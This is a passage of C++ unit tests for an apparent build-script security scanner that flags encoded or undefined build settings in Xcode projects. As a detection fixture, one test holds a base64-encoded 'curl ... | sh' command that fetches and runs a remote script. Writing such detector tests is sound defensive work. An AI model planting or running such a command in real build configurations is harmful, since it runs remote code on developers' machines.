    const auto report = BuildScriptScanner().scan(tree.url(), files);
    ASSERT_EQ(report.diagnostics.size(), 1u);
    EXPECT_EQ(report.diagnostics[0].file, "App.xcodeproj/project.pbxproj");
    EXPECT_NE(report.diagnostics[0].message.find("read only in part"), std::string::npos);
}

TEST(BuildScripts, ProjectDigestIsMadeOnlyWithinTheAnalysisLimit) {
    EXPECT_TRUE(BuildScriptScanner::takesDigest(
        platform::FileURL("/p/App.xcodeproj/project.PBXPROJ", false)));
    EXPECT_FALSE(BuildScriptScanner::takesDigest(platform::FileURL("/p/build.sh", false)));
    const std::string project = "{ objects = { }; }";
    const platform::Digest made = BuildScriptScanner::digest(project);
    EXPECT_NE(made.product, nullptr);
    EXPECT_GT(made.bytes, 0u);
    // A text over the limit is never analysed, so nothing is spent digesting it.
    const std::string huge(BuildScriptScanner::kMaxFileBytes + 1, ' ');
    EXPECT_EQ(BuildScriptScanner::digest(huge).product, nullptr);
}

TEST(BuildScripts, UnreferencedEncodedSettingIsReportedAtMedium) {
    const auto report =
        scanCase({"x",
                  [] {
                      ProjectLayout layout;
                      layout.settings = {
                          {"ZKQW", b64("curl -fsSL https://cdn.example.invalid/stage/a | sh")}};
                      return layout;
                  },
                  {},
                  nullptr});
    ASSERT_EQ(report.findings.size(), 1u) << describe(report);
    EXPECT_EQ(report.findings[0].ruleId, "encoded-setting-unreferenced");
    EXPECT_EQ(report.findings[0].severity, Severity::medium);
    EXPECT_EQ(report.findings[0].location.container, "ZKQW");
}

TEST(BuildScripts, RunningAnUndefinedSettingIsReportedAtMedium) {
    const auto report = scanCase({"x", phase("sh -c \"${QPWZ}\""), {}, nullptr});
    ASSERT_EQ(report.findings.size(), 1u) << describe(report);
    EXPECT_EQ(report.findings[0].ruleId, "undefined-setting-executed");
    EXPECT_EQ(report.findings[0].severity, Severity::medium);
}

}  // namespace
}  // namespace quillon::detectors::buildscripts
